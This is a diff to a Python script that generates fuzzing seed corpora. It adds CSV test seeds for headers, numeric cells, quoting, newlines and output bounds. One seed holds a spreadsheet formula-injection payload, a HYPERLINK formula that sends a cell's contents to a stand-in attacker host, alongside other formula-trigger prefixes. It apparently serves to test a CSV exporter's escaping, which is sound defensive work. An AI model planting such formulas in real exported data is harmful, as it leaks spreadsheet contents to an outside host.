@@ -312,6 +312,18 @@ seed("wechat_push", "bad_signature", b"\x04" + json.dumps(v2).encode())
 seed("wechat_push", "xml_body", b"\x00<xml><Event><![CDATA[wxa_media_check]]></Event></xml>")
 
 
+# ---- csv ---------------------------------------------------------------------------
+# Byte 0: the output bound (64 << (b % 8)); byte 1: which cells are numeric;
+# then cells split by 0x00 and rows by 0x01.
+
+seed("csv", "header_and_row", b"\x07\x01" + "编号\0姓名\0电话\x01".encode() + b"42\0\xe5\xbc\xa0*\0138****1234")
+seed("csv", "hyperlink", b"\x07\x00" + b'=HYPERLINK("http://evil.example/?x="&A1,"click")\0@SUM(1)\0+86\0-2')
+seed("csv", "numeric_negative", b"\x07\xff" + b"-5000.00\0-1+1\0" + b"12\0-\0" + b"1.5")
+seed("csv", "quotes_and_newlines", b"\x07\x00" + b'say "hi"\0a,b\0line1\nline2\0a\r\nb\0\rx\0\tx')
+seed("csv", "tiny_bound", b"\x00\x00" + b"x" * 80)
+seed("csv", "empty", b"\x03\x00")
+
+
 def main():
     for driver, files in sorted(corpora.items()):
         d = os.path.join(HERE, "corpus", driver)
